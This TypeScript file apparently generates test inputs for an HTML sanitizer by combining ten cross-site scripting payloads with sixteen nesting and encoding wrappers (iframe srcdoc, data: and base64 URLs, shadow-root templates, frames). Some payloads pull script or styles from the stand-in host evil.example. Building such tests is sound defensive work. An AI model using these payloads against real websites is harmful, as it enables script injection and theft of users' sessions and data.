import { cross } from './cross.ts';

const INNER = [
  '<script>parent.attacked()</script>',
  '<script>top.attacked()</script>',
  '<img src=x onerror=parent.attacked()>',
  '<svg onload=parent.attacked()>',
  '<body onload=parent.attacked()>',
  '<iframe srcdoc="<script>top.attacked()</script>">',
  '<script src=//evil.example/x.js></script>',
  '<meta http-equiv=refresh content="0;url=javascript:parent.attacked()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/><img src=x>',
];

const asText = (html: string): string => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const asNumbers = (html: string): string =>
  [...html].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('');

const CARRIERS: readonly ((html: string) => string)[] = [
  (html) => `<iframe srcdoc="${asText(html)}"></iframe>`,
  (html) => `<iframe srcdoc="${asNumbers(html)}"></iframe>`,
  (html) => `<IFRAME SRCDOC="${asText(html)}" sandbox="allow-scripts allow-same-origin"></IFRAME>`,
  (html) => `<iframe srcdoc='${html.replaceAll("'", '&#39;')}' src="//evil.example/"></iframe>`,
  (html) => `<svg><foreignObject><iframe srcdoc="${asText(html)}"></iframe></foreignObject></svg>`,
  (html) => `<object type=text/html data="data:text/html,${encodeURIComponent(html)}">x</object>`,
  (html) => `<embed type=text/html src="data:text/html;base64,${btoa(html)}">`,
  (html) => `<template>${html}</template>`,
  (html) => `<div><template shadowrootmode=open>${html}</template></div>`,
  (html) => `<div><template shadowrootmode=closed><slot></slot>${html}</template>x</div>`,
  (html) => `<template><template>${html}</template></template>`,
  (html) => `<frameset><frame src="data:text/html,${encodeURIComponent(html)}"></frameset>`,
  (html) => `<portal src="data:text/html,${encodeURIComponent(html)}"></portal>${html}`,
  (html) => `<fencedframe><iframe srcdoc="${asText(html)}"></iframe></fencedframe>`,
  (html) => `<x-y is=x-y>${html}<slot name=a>${html}</slot></x-y>`,
  (html) => `<script type=text/template>${html}</script>${html}`,
];

export const documents: readonly string[] = cross(CARRIERS, INNER, (carry, html) => carry(html));
